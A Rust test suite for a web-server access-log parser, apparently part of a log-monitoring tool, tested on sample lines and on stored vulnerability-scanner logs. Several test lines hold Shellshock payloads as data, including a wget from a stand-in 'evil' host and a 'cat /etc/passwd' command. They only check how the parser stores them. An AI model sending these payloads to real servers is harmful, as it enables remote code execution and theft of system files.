use super::*;
use serde_json::json;

mod wrapped;

const SRC: &str = "file:/var/log/nginx/access.log";

fn combined(line: &str) -> Parsed {
    Parser::combined().parse(line, SRC)
}

/// Parses a line that must parse cleanly, and returns its event.
fn ok(parser: &Parser, line: &str) -> Event {
    let parsed = parser.parse(line, SRC);
    assert_eq!(parsed.error, None, "line: {line}");
    assert_eq!(parsed.event.raw, line);
    assert_eq!(parsed.event.source, SRC);
    parsed.event
}

fn utc_ms(rfc3339: &str) -> i64 {
    rfc3339.parse::<jiff::Timestamp>().unwrap().as_millisecond()
}

/// Latencies come from decimal text times 1000, so compare to within float rounding.
fn assert_latency(got: Option<f64>, expected: Option<f64>, context: &str) {
    match (got, expected) {
        (Some(g), Some(e)) => assert!((g - e).abs() < 1e-9, "{context}: {g} != {e}"),
        _ => assert_eq!(got, expected, "{context}"),
    }
}

fn build(toml_text: &str) -> Result<Parser, BuildError> {
    toml::from_str::<ParseConfig>(toml_text).unwrap().build()
}

/// A line that did not parse keeps exactly `raw` and `source`, nothing else.
fn assert_kept_as_raw(parsed: &Parsed, line: &str) {
    let expected = Event { raw: line.to_owned(), source: SRC.to_owned(), ..Event::default() };
    assert_eq!(parsed.event, expected);
    assert!(parsed.error.is_some(), "line should report an error: {line}");
}

// ---- combined / common ----

#[test]
fn combined_line_fills_every_field() {
    let line = r#"192.168.4.25 - - [22/Dec/2016:16:30:52 +0300] "POST /administrator/index.php HTTP/1.1" 303 382 "http://192.168.4.161/DVWA" "Mozilla/5.0 (Windows NT 6.1; WOW64)""#;
    let e = ok(&Parser::combined(), line);
    assert_eq!(e.timestamp_ms, utc_ms("2016-12-22T13:30:52Z"));
    assert_eq!(e.ip, "192.168.4.25");
    assert_eq!(e.method, "POST");
    assert_eq!(e.url, "/administrator/index.php");
    assert_eq!(e.status_code, 303);
    assert_eq!(e.bytes_sent, 382);
    assert_eq!(e.referer.as_deref(), Some("http://192.168.4.161/DVWA"));
    assert_eq!(e.user_agent, "Mozilla/5.0 (Windows NT 6.1; WOW64)");
    assert_eq!(e.latency_ms, None);
    assert!(e.fields.is_empty());
}

#[test]
fn escaped_quotes_in_request_referer_and_user_agent_are_unescaped() {
    let line = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /q?x=\"a\" HTTP/1.1" 200 5 "http://r/\"ref\"" "UA \"quoted\" and \\ backslash""#;
    let e = ok(&Parser::combined(), line);
    assert_eq!(e.url, r#"/q?x="a""#);
    assert_eq!(e.referer.as_deref(), Some(r#"http://r/"ref""#));
    assert_eq!(e.user_agent, r#"UA "quoted" and \ backslash"#);
}

#[test]
fn dashes_for_bytes_referer_and_user_agent_read_as_empty() {
    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "HEAD / HTTP/1.1" 304 - "-" "-""#);
    assert_eq!((e.status_code, e.bytes_sent), (304, 0));
    assert_eq!(e.referer, None);
    assert_eq!(e.user_agent, "");
}

#[test]
fn status_dash_and_000_read_as_zero() {
    for status in ["-", "000"] {
        let line = format!(r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" {status} 0 "-" "curl/8""#);
        let e = ok(&Parser::combined(), &line);
        assert_eq!(e.status_code, 0, "status {status}");
        assert_eq!(e.user_agent, "curl/8");
    }
}

#[test]
fn empty_request_line_keeps_the_line() {
    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "" 400 0 "-" "-""#);
    assert_eq!((e.method.as_str(), e.url.as_str(), e.status_code), ("", "", 400));
}

#[test]
fn request_line_without_url_keeps_the_method() {
    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET  HTTP/1.1" 400 300 "-" "-""#);
    assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", ""));
    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /a b  HTTP/1.0" 400 300"#);
    assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", "/a b"), "spaces inside the target are kept");
    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /legacy" 200 1"#);
    assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", "/legacy"), "HTTP/0.9 has no protocol");
    let e = ok(
        &Parser::combined(),
        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "CONNECT example.com:443 HTTP/1.1" 200 1"#,
    );
    assert_eq!((e.method.as_str(), e.url.as_str()), ("CONNECT", "example.com:443"));
}

#[test]
fn request_line_that_is_not_method_url_protocol_is_kept_as_url() {
    let shellshock =
        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "() { :; }; /bin/bash -c \"cat /etc/passwd\"" 400 226 "-" "-""#;
    let e = ok(&Parser::combined(), shellshock);
    assert_eq!(e.method, "");
    assert_eq!(e.url, r#"() { :; }; /bin/bash -c "cat /etc/passwd""#);
    assert_eq!(e.status_code, 400);

    // A TLS handshake sent to the plain-HTTP port: control bytes decode, a lone 0xa5 does not
    // make UTF-8, so that request stays written as `\xhh`.
    let tls = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "\x16\x03\x01\x00\xa5\x01" 400 226 "-" "-""#;
    let e = ok(&Parser::combined(), tls);
    assert_eq!(e.method, "");
    assert_eq!(e.url, r"\x16\x03\x01\x00\xa5\x01");
    let ctrl = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "\x16\x03\x01" 400 226"#;
    assert_eq!(ok(&Parser::combined(), ctrl).url, "\u{16}\u{3}\u{1}");
}

#[test]
fn shellshock_user_agent_is_kept_whole() {
    let line = r#"10.0.0.9 - - [01/Jan/2024:00:00:00 +0000] "GET /cgi-bin/status HTTP/1.1" 404 0 "-" "() { :; }; /bin/bash -c \"wget http://evil/x -O /tmp/x\"""#;
    let e = ok(&Parser::combined(), line);
    assert_eq!(e.user_agent, r#"() { :; }; /bin/bash -c "wget http://evil/x -O /tmp/x""#);
    assert_eq!(e.url, "/cgi-bin/status");
}

#[test]
fn escaped_utf8_bytes_in_the_url_are_decoded() {
    let line = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /a\xf0\x9f\x92\xa9b HTTP/1.1" 200 1 "-" "-""#;
    assert_eq!(ok(&Parser::combined(), line).url, "/a\u{1F4A9}b");
}

#[test]
fn ipv6_and_host_name_clients_are_kept() {
    let e = ok(
        &Parser::combined(),
        r#"2001:db8::8a2e:370:7334 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/2.0" 200 1 "-" "h2""#,
    );
    assert_eq!(e.ip, "2001:db8::8a2e:370:7334");
    let e = ok(&Parser::combined(), r#"::1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#);
    assert_eq!(e.ip, "::1");
    let e = ok(&Parser::combined(), r#"crawler.example.org - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#);
    assert_eq!(e.ip, "crawler.example.org");
}

#[test]
fn access_log_time_with_any_offset_is_utc() {
    let cases = [
        ("22/Dec/2016:16:30:52 +0300", "2016-12-22T13:30:52Z"),
        ("10/Oct/2000:13:55:36 -0700", "2000-10-10T20:55:36Z"),
        ("01/Jan/2024:00:00:00 +0000", "2024-01-01T00:00:00Z"),
        ("01/Jan/2024:02:00:00 +0530", "2023-12-31T20:30:00Z"),
        ("29/Feb/2024:23:59:59 -1200", "2024-03-01T11:59:59Z"),
        ("31/Dec/1999:23:59:59 +14:00", "1999-12-31T09:59:59Z"),
        ("15/Mar/2024:10:00:00.250 +0100", "2024-03-15T09:00:00.250Z"),
        ("15/mar/2024:10:00:00", "2024-03-15T10:00:00Z"),
    ];
    for (time, expected) in cases {
        let line = format!(r#"10.0.0.1 - - [{time}] "GET / HTTP/1.1" 200 1"#);
        assert_eq!(ok(&Parser::combined(), &line).timestamp_ms, utc_ms(expected), "{time}");
    }
}

#[test]
fn hand_written_time_reader_agrees_with_jiff() {
    // Every 7th hour and 13th minute across 2015-2028 covers leap years, month ends and
    // both signs of offset.
    let start = utc_ms("2015-01-01T00:00:00Z") / 1000;
    let end = utc_ms("2028-12-31T23:59:59Z") / 1000;
    let mut second = start;
    let mut checked = 0;
    while second < end {
        let ts = jiff::Timestamp::from_second(second).unwrap();
        for offset in ["+0000", "-0730", "+0545"] {
            let tz = jiff::tz::Offset::from_seconds(offset_seconds(offset)).unwrap();
            let text = jiff::fmt::strtime::format("%d/%b/%Y:%H:%M:%S %z", &ts.to_zoned(tz.to_time_zone())).unwrap();
            assert_eq!(timestamp::access_log_millis(&text), Some(second * 1000), "{text}");
            checked += 1;
        }
        second += 7 * 3600 + 13 * 60 + 11;
    }
    assert!(checked > 40_000);
}

fn offset_seconds(offset: &str) -> i32 {
    let sign = if offset.starts_with('-') { -1 } else { 1 };
    sign * (offset[1..3].parse::<i32>().unwrap() * 3600 + offset[3..5].parse::<i32>().unwrap() * 60)
}

#[test]
fn impossible_times_are_reported_and_the_rest_of_the_line_kept() {
    for time in [
        "31/Feb/2024:00:00:00 +0000",
        "29/Feb/2023:00:00:00 +0000",
        "01/Foo/2024:00:00:00 +0000",
        "01/Jan/2024:24:00:00 +0000",
        "01/Jan/2024:00:00:00 +9900",
        "yesterday",
    ] {
        let line = format!(r#"10.0.0.1 - - [{time}] "GET /x HTTP/1.1" 200 1 "-" "ua""#);
        let parsed = combined(&line);
        assert_eq!(parsed.event.timestamp_ms, 0, "{time}");
        assert_eq!((parsed.event.url.as_str(), parsed.event.status_code), ("/x", 200));
        match &parsed.error {
            Some(ParseError::Timestamp { field, value, .. }) => {
                assert_eq!((field.as_str(), value.as_str()), ("time", time))
            }
            other => panic!("{time}: expected a timestamp error, got {other:?}"),
        }
    }
}

#[test]
fn empty_time_is_absent_not_an_error() {
    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [] "GET / HTTP/1.1" 200 1"#);
    assert_eq!(e.timestamp_ms, 0);
}

#[test]
fn trailing_numeric_field_becomes_latency() {
    let base = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#;
    let cases = [
        (" 0.123", Some(123.0)),                        // nginx $request_time, seconds
        (" 0.123 0.120", Some(123.0)),                  // ... then $upstream_response_time
        (r#" "10.1.1.1, 10.2.2.2" 1.5"#, Some(1500.0)), // X-Forwarded-For first
        (" 123456", Some(123.456)),                     // Apache %D, microseconds
        (r#" "-" -"#, None),
        (" rt=0.5 host.example", None),
    ];
    for (trailing, expected) in cases {
        let line = format!("{base}{trailing}");
        let e = ok(&Parser::combined(), &line);
        assert_latency(e.latency_ms, expected, trailing);
        assert_eq!(e.user_agent, "ua");
    }
}

#[test]
fn common_format_line_has_no_referer_or_user_agent() {
    let e = ok(
        &Parser::common(),
        r#"127.0.0.1 user-identifier frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326"#,
    );
    assert_eq!((e.method.as_str(), e.url.as_str(), e.status_code, e.bytes_sent), ("GET", "/apache_pb.gif", 200, 2326));
    assert_eq!((e.referer, e.user_agent.as_str()), (None, ""));
    assert_eq!(e.fields.get("user"), Some(&json!("frank")));
    assert_eq!(e.fields.get("ident"), Some(&json!("user-identifier")));
    assert_eq!(Parser::common().format(), Format::Common);
}

#[test]
fn unescaped_quote_inside_user_agent_does_not_cut_the_line() {
    let e = ok(
        &Parser::combined(),
        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "Mozilla "compatible"; bot" 0.010"#,
    );
    assert_eq!(e.user_agent, r#"Mozilla "compatible"; bot"#);
    assert_latency(e.latency_ms, Some(10.0), "0.010 s");
}

#[test]
fn line_ending_is_ignored_but_kept_in_raw() {
    let line = "10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"ua\"\r\n";
    let e = ok(&Parser::combined(), line);
    assert_eq!(e.user_agent, "ua");
    assert_eq!(e.raw, line);
}

#[test]
fn garbage_is_kept_with_raw_and_a_malformed_error() {
    let cases = [
        ("", "the client address"),
        ("hello", "the ident field (`-` when empty)"),
        ("Dec 22 16:30:52 host sshd[42]: Accepted publickey", "the time in `[...]`"),
        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000 "GET / HTTP/1.1" 200 1"#, "the time in `[...]`"),
        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] GET / 200 1"#, "the request line in `\"...\"`"),
        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1 200 1"#, "the request line in `\"...\"`"),
        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" OK 1"#, "a status code (3 digits or `-`)"),
        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 2000 1"#, "a status code (3 digits or `-`)"),
        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200"#, "a response size (digits or `-`)"),
        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 12k"#, "a response size (digits or `-`)"),
        (
            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "http://unterminated"#,
            "a closing `\"` after the referer",
        ),
    ];
    for (line, expected) in cases {
        let parsed = combined(line);
        assert_kept_as_raw(&parsed, line);
        match parsed.error {
            Some(ParseError::Malformed { format: Format::Combined, expected: got, .. }) => {
                assert_eq!(got, expected, "{line}")
            }
            other => panic!("{line}: expected Malformed, got {other:?}"),
        }
    }
    let message = combined("hello").error.unwrap().to_string();
    assert_eq!(message, "combined: expected the ident field (`-` when empty) at byte 5; check this source's `format`");
}

// ---- json ----

fn json_parser() -> Parser {
    build("format = \"json\"").unwrap()
}

#[test]
fn json_line_maps_default_keys_and_keeps_the_rest_in_fields() {
    let line = r#"{"time":"2024-03-01T12:00:00.5Z","remote_addr":"203.0.113.7","request_method":"PUT","request_uri":"/api/x?y=1","status":201,"body_bytes_sent":17,"http_user_agent":"curl/8","http_referer":"https://a/","request_time":0.042,"host":"api.example","upstream":{"addr":"10.0.0.2"}}"#;
    let e = ok(&json_parser(), line);
    assert_eq!(e.timestamp_ms, utc_ms("2024-03-01T12:00:00.5Z"));
    assert_eq!((e.ip.as_str(), e.method.as_str(), e.url.as_str()), ("203.0.113.7", "PUT", "/api/x?y=1"));
    assert_eq!((e.status_code, e.bytes_sent), (201, 17));
    assert_eq!((e.user_agent.as_str(), e.referer.as_deref()), ("curl/8", Some("https://a/")));
    assert_latency(e.latency_ms, Some(42.0), "request_time 0.042 s");
    assert_eq!(serde_json::Value::Object(e.fields), json!({"host": "api.example", "upstream": {"addr": "10.0.0.2"}}));
}

#[test]
fn json_numbers_as_strings_and_strings_as_numbers_are_tolerated() {
    let e = ok(&json_parser(), r#"{"status":"200","bytes":"512","latency_ms":"3.5","ip":12345,"size_note":1}"#);
    assert_eq!((e.status_code, e.bytes_sent, e.latency_ms), (200, 512, Some(3.5)));
    assert_eq!(e.ip, "12345");
    let e = ok(&json_parser(), r#"{"status":404.0,"bytes":2048.0}"#);
    assert_eq!(e.bytes_sent, 2048);
    assert!(json_parser().parse(r#"{"status":404.5}"#, SRC).error.is_some(), "404.5 is no status");
}

#[test]
fn json_timestamps_in_every_supported_form() {
    let expected = utc_ms("2023-11-14T22:13:20Z");
    for ts in [
        "1700000000",
        "1700000000000",
        "1700000000000000",
        "1700000000000000000",
        "\"1700000000\"",
        "\"2023-11-14T22:13:20Z\"",
        "\"2023-11-15T00:13:20+02:00\"",
        "\"2023-11-14 22:13:20\"",
        "\"14/Nov/2023:22:13:20 +0000\"",
    ] {
        let line = format!(r#"{{"timestamp":{ts}}}"#);
        assert_eq!(ok(&json_parser(), &line).timestamp_ms, expected, "{ts}");
    }
    let e = ok(&json_parser(), r#"{"ts":1700000000.25}"#);
    assert_eq!(e.timestamp_ms, expected + 250);
    let custom = build("format = \"json\"\ntimestamp_format = \"%d.%m.%Y %H:%M:%S\"").unwrap();
    assert_eq!(ok(&custom, r#"{"@timestamp":"14.11.2023 22:13:20"}"#).timestamp_ms, expected);
}

#[test]
fn json_custom_mapping_takes_one_key_or_a_list_and_nested_paths() {
    let parser =
        build("format = \"json\"\n[json_fields]\nip = \"peer\"\nstatus_code = [\"http.code\", \"code\"]\nurl = []\n")
            .unwrap();
    let e = ok(&parser, r#"{"peer":"::1","ip":"ignored","http":{"code":503,"proto":"h2"},"url":"/kept-in-fields"}"#);
    assert_eq!((e.ip.as_str(), e.status_code, e.url.as_str()), ("::1", 503, ""));
    assert_eq!(
        serde_json::Value::Object(e.fields),
        json!({"ip": "ignored", "http": {"proto": "h2"}, "url": "/kept-in-fields"})
    );
}

#[test]
fn json_request_line_fills_method_and_url_unless_given() {
    let e = ok(&json_parser(), r#"{"request":"DELETE /item/7 HTTP/1.1"}"#);
    assert_eq!((e.method.as_str(), e.url.as_str()), ("DELETE", "/item/7"));
    let e = ok(&json_parser(), r#"{"request":"DELETE /item/7 HTTP/1.1","url":"/own"}"#);
    assert_eq!((e.method.as_str(), e.url.as_str()), ("DELETE", "/own"));
}

#[test]
fn json_garbage_is_kept_with_raw_and_an_error() {
    for line in ["not json at all", "[1,2,3]", "\"just a string\"", "{\"truncated\": "] {
        let parsed = json_parser().parse(line, SRC);
        assert_kept_as_raw(&parsed, line);
        assert_eq!(parsed.error.as_ref().unwrap().kind(), "not_json_object", "{line}");
    }
}

#[test]
fn json_bad_values_are_named_and_the_rest_kept() {
    let parsed = json_parser().parse(r#"{"ip":"1.2.3.4","status":"abc","method":"GET"}"#, SRC);
    assert_eq!(
        (parsed.event.ip.as_str(), parsed.event.method.as_str(), parsed.event.status_code),
        ("1.2.3.4", "GET", 0)
    );
    let error = parsed.error.unwrap();
    assert_eq!(
        error,
        ParseError::Number { field: "status_code", value: "abc".into(), expected: "a status code 0-999" }
    );
    assert_eq!(error.to_string(), "status_code: `abc` is not a status code 0-999; the field is left empty");

    let parsed = json_parser().parse(r#"{"ip":{"v4":"1.2.3.4"},"status":200}"#, SRC);
    assert_eq!(parsed.event.status_code, 200);
    assert_eq!(parsed.event.fields.get("ip"), Some(&json!({"v4": "1.2.3.4"})), "kept, not lost");
    assert_eq!(parsed.error.unwrap().kind(), "json_type");

    let parsed = json_parser().parse(r#"{"time":"next tuesday","status":200}"#, SRC);
    assert_eq!((parsed.event.timestamp_ms, parsed.event.status_code), (0, 200));
    assert!(matches!(parsed.error, Some(ParseError::Timestamp { ref field, .. }) if field == "time"));
}

// ---- regex ----

const SYSLOG_HTTP: &str = r#"format = "regex"
pattern = '^(?P<time>\S+ \S+) (?P<ip>\S+) (?:"(?P<request>[^"]*)" )?(?P<status>\S+) (?P<bytes>\S+)(?: (?P<latency_ms>\S+))? (?P<service>\w+)$'
timestamp_format = "%Y/%m/%d %H:%M:%S"
"#;

#[test]
fn regex_groups_fill_event_fields_and_others_go_to_fields() {
    let parser = build(SYSLOG_HTTP).unwrap();
    assert_eq!(parser.format(), Format::Regex);
    let e = ok(&parser, r#"2024/03/01 12:00:00 10.0.0.5 "GET /health HTTP/1.1" 200 12 7.5 checkout"#);
    assert_eq!(e.timestamp_ms, utc_ms("2024-03-01T12:00:00Z"));
    assert_eq!(e.ip, "10.0.0.5");
    assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", "/health"));
    assert_eq!((e.status_code, e.bytes_sent, e.latency_ms), (200, 12, Some(7.5)));
    assert_eq!(serde_json::Value::Object(e.fields), json!({"service": "checkout"}));
}

#[test]
fn regex_request_group_splits_into_method_and_url_and_optional_groups_are_skipped() {
    let parser =
        build("format = \"regex\"\npattern = '^(?P<ip>\\S+) \"(?P<request>[^\"]*)\"(?: (?P<user_agent>.+))?$'")
            .unwrap();
    let e = ok(&parser, r#"10.0.0.5 "POST /login HTTP/1.1""#);
    assert_eq!(
        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.user_agent.as_str()),
        ("10.0.0.5", "POST", "/login", "")
    );
}

#[test]
fn regex_numeric_conversion_errors_are_named() {
    let parser = build(SYSLOG_HTTP).unwrap();
    let parsed = parser.parse("2024/03/01 12:00:00 10.0.0.5 OK 12 fast checkout", SRC);
    assert_eq!(parsed.event.ip, "10.0.0.5");
    assert_eq!(parsed.event.bytes_sent, 12);
    assert_eq!(
        parsed.error,
        Some(ParseError::Number { field: "status_code", value: "OK".into(), expected: "a status code 0-999" })
    );
    let parsed = parser.parse("2024/03/01 12:00:00 10.0.0.5 200 12 fast checkout", SRC);
    assert_eq!(parsed.event.status_code, 200);
    assert!(matches!(parsed.error, Some(ParseError::Number { field: "latency_ms", .. })));
    let parsed = parser.parse("2024/03/01 12:00:00 10.0.0.5 200 lots 1 checkout", SRC);
    assert!(matches!(parsed.error, Some(ParseError::Number { field: "bytes_sent", .. })));
}

#[test]
fn regex_line_that_does_not_match_is_kept_with_raw_and_an_error() {
    let parser = build(SYSLOG_HTTP).unwrap();
    let line = "\u{0}\u{1}binary junk";
    let parsed = parser.parse(line, SRC);
    assert_kept_as_raw(&parsed, line);
    assert_eq!(parsed.error, Some(ParseError::NoMatch));
}

#[test]
fn regex_timestamp_that_fits_no_form_is_reported() {
    let parser = build(SYSLOG_HTTP).unwrap();
    let parsed = parser.parse("01-03-2024 12:00 10.0.0.5 200 12 1 checkout", SRC);
    assert_eq!(parsed.event.status_code, 200);
    match parsed.error {
        Some(ParseError::Timestamp { field, reason, .. }) => {
            assert_eq!(field, "time");
            assert!(reason.contains("%Y/%m/%d %H:%M:%S"), "{reason}");
        }
        other => panic!("expected a timestamp error, got {other:?}"),
    }
}

// ---- raw ----

#[test]
fn raw_keeps_the_line_and_nothing_else() {
    let line = "kernel: [12345.678] eth0: link up";
    let parsed = build("format = \"raw\"").unwrap().parse(line, SRC);
    assert_eq!(
        parsed,
        Parsed { event: Event { raw: line.into(), source: SRC.into(), ..Event::default() }, error: None }
    );
    assert!(parsed.is_ok());
}

// ---- config ----

#[test]
fn default_config_is_combined() {
    let config: ParseConfig = toml::from_str("").unwrap();
    assert_eq!(config, ParseConfig::default());
    assert_eq!(config.build().unwrap().format(), Format::Combined);
    assert_eq!(build("format = \"common\"").unwrap().format(), Format::Common);
}

#[test]
fn unknown_fields_and_formats_are_rejected() {
    let err = toml::from_str::<ParseConfig>("formt = \"json\"").unwrap_err().to_string();
    assert!(err.contains("unknown field `formt`"), "{err}");
    let err = toml::from_str::<ParseConfig>("format = \"xml\"").unwrap_err().to_string();
    assert!(err.contains("unknown variant `xml`"), "{err}");
    let err = toml::from_str::<ParseConfig>("format = \"json\"\n[json_fields]\nipp = \"x\"").unwrap_err().to_string();
    assert!(err.contains("unknown field `ipp`"), "{err}");
}

#[test]
fn invalid_regex_names_the_field_and_the_regex_error() {
    let err = build("format = \"regex\"\npattern = '(?P<ip>\\S+'").unwrap_err();
    assert!(matches!(err, BuildError::InvalidPattern { .. }));
    let message = err.to_string();
    assert!(message.starts_with("pattern: invalid regex `(?P<ip>\\S+`: "), "{message}");
    assert!(message.contains("unclosed group"), "{message}");
}

#[test]
fn regex_config_needs_a_pattern_with_named_groups() {
    assert_eq!(build("format = \"regex\"").unwrap_err(), BuildError::MissingPattern);
    let err = build("format = \"regex\"\npattern = '^(\\S+) (\\d+)$'").unwrap_err();
    assert_eq!(err, BuildError::NoNamedGroups { pattern: "^(\\S+) (\\d+)$".into() });
    assert!(err.to_string().contains("(?P<name>...)"));
}

#[test]
fn options_the_format_ignores_are_refused() {
    let err = build("format = \"combined\"\npattern = '(?P<ip>.*)'").unwrap_err();
    assert_eq!(
        err.to_string(),
        "pattern: only used with format = \"regex\", but format = \"combined\"; remove `pattern` or change `format`"
    );
    assert!(matches!(
        build("format = \"raw\"\ntimestamp_format = \"%s\""),
        Err(BuildError::UnusedOption { option: "timestamp_format", .. })
    ));
    assert!(matches!(
        build("format = \"regex\"\npattern = '(?P<ip>.*)'\n[json_fields]\nip = \"a\""),
        Err(BuildError::UnusedOption { option: "json_fields", .. })
    ));
    assert_eq!(
        build("format = \"json\"\n[json_fields]\nip = [\"a\", \"\"]").unwrap_err(),
        BuildError::EmptyJsonKey { field: "ip" }
    );
}

#[test]
fn unusable_timestamp_formats_are_refused_with_the_reason() {
    for (format, reason) in [
        ("%Y-%m-%d", None),
        ("%s", None),
        ("plain text", Some("has no % directive")),
        ("%H:%M:%S", Some("does not give a full date")),
        ("%Y-%m-%d %K", Some("cannot be used")),
    ] {
        let result = build(&format!("format = \"json\"\ntimestamp_format = \"{format}\""));
        match (reason, result) {
            (None, result) => assert!(result.is_ok(), "{format}: {:?}", result.err()),
            (Some(reason), Err(BuildError::InvalidTimestampFormat { reason: got, .. })) => {
                assert!(got.starts_with(reason), "{format}: {got}")
            }
            (Some(_), other) => panic!("{format}: expected InvalidTimestampFormat, got {other:?}"),
        }
    }
}

#[test]
fn parser_is_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync + Clone>() {}
    assert_send_sync::<Parser>();
    let parser = build(SYSLOG_HTTP).unwrap();
    let handles: Vec<_> = (0..4)
        .map(|i| {
            let parser = parser.clone();
            std::thread::spawn(move || {
                parser.parse(&format!("2024/03/01 12:00:0{i} 10.0.0.{i} 200 1 1 svc"), SRC).event.ip
            })
        })
        .collect();
    let ips: Vec<String> = handles.into_iter().map(|h| h.join().unwrap()).collect();
    assert_eq!(ips, ["10.0.0.0", "10.0.0.1", "10.0.0.2", "10.0.0.3"]);
}

// ---- the real scanner logs of ../shared/data/apache_scan_logs ----

use crate::testing::scan_logs;

#[test]
fn every_scan_log_line_parses_as_combined_without_error() {
    let Some(files) = scan_logs() else { return };
    let parser = Parser::combined();
    let mut total = 0;
    for (name, lines) in &files {
        for (number, line) in lines.iter().enumerate() {
            let parsed = parser.parse(line, name);
            assert_eq!(parsed.error, None, "{name}:{}: {line}", number + 1);
            let e = &parsed.event;
            assert!(!e.ip.is_empty() && !e.method.is_empty() && e.status_code >= 200, "{name}:{}: {e:?}", number + 1);
            assert!(e.timestamp_ms > utc_ms("2016-12-22T00:00:00Z") && e.timestamp_ms < utc_ms("2016-12-23T00:00:00Z"));
        }
        total += lines.len();
    }
    assert_eq!(total, 17_849);

    let first = |file: usize| parser.parse(&files[file].1[0], "test").event;
    let e = first(0);
    assert_eq!(
        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.status_code, e.bytes_sent),
        ("192.168.4.25", "POST", "/administrator/index.php", 303, 382)
    );
    assert_eq!(e.timestamp_ms, utc_ms("2016-12-22T13:30:52Z"));
    assert_eq!(e.referer.as_deref(), Some("http://192.168.4.161/DVWA"));
    let e = first(1);
    assert_eq!(
        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.status_code, e.bytes_sent),
        ("192.168.4.164", "GET", "/DVWA/", 200, 2020)
    );
    let e = first(2);
    assert_eq!(
        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.status_code, e.user_agent.as_str()),
        ("192.168.4.163", "GET", "/", 200, "w3af.org")
    );
}

#[test]
fn scan_log_oddities_parse_as_documented() {
    let Some(files) = scan_logs() else { return };
    let all: Vec<&String> = files.iter().flat_map(|(_, lines)| lines).collect();
    let parse = |line: &String| Parser::combined().parse(line, "test").event;

    // Shellshock payloads (all in the referer here): unescaped, and the user agent kept.
    let shellshock: Vec<Event> = all.iter().filter(|l| l.contains("() {")).map(|l| parse(l)).collect();
    assert_eq!(shellshock.len(), 52);
    for e in &shellshock {
        let payload = e.referer.as_deref().unwrap();
        assert!(payload.starts_with("() {") && !payload.contains("\\\""), "{payload}");
        assert!(e.user_agent.starts_with("Mozilla/5.0 (Windows NT 6."), "{}", e.user_agent);
    }
    assert!(
        shellshock
            .iter()
            .any(|e| e.referer.as_deref() == Some(r#"() { :;}; echo "NS:" $(/bin/sh -c "expr 268409241 - 2")"#))
    );
    assert!(
        shellshock
            .iter()
            .any(|e| { e.referer.as_deref().unwrap().contains(r#"echo -e "Content-Type: text/plain\n";"#) })
    );

    // The empty request `GET  HTTP/1.1` and the Netsparker custom method.
    let empty = all.iter().find(|l| l.contains("\"GET  HTTP/1.1\"")).map(|l| parse(l)).unwrap();
    assert_eq!(
        (empty.method.as_str(), empty.url.as_str(), empty.status_code, empty.user_agent.as_str()),
        ("GET", "", 400, "")
    );
    let custom = all.iter().find(|l| l.contains("\"NETSPARKER ")).map(|l| parse(l)).unwrap();
    assert_eq!((custom.method.as_str(), custom.url.as_str()), ("NETSPARKER", "/DVWA/"));

    // Escaped quotes, backslashes and UTF-8 bytes inside a request target.
    let fuzz = all.iter().find(|l| l.contains(r"\xf0\x9f\x92\xa9")).map(|l| parse(l)).unwrap();
    assert!(fuzz.url.contains("12345'\"\\'\\\");|]*%00{%0d%0a<%00>%bf%27'\u{1F4A9}"), "{}", fuzz.url);

    // w3af's authenticated crawl keeps its user.
    let admin = all.iter().find(|l| l.contains(" - admin [")).map(|l| parse(l)).unwrap();
    assert_eq!(admin.fields.get("user"), Some(&json!("admin")));
}

/// Throughput of the combined parser on the scan logs, one core. Run with
/// `cargo test -p vigil --release --lib parse -- --ignored --nocapture`.
#[test]
#[ignore = "benchmark; run in release with --ignored --nocapture"]
fn combined_parse_throughput() {
    let Some(files) = scan_logs() else { return };
    let lines: Vec<String> = files.into_iter().flat_map(|(_, lines)| lines).collect();
    let bytes: usize = lines.iter().map(String::len).sum();
    let parser = Parser::combined();
    let rounds = 60;
    let start = std::time::Instant::now();
    let mut errors = 0;
    let mut checksum = 0u64;
    for _ in 0..rounds {
        for line in &lines {
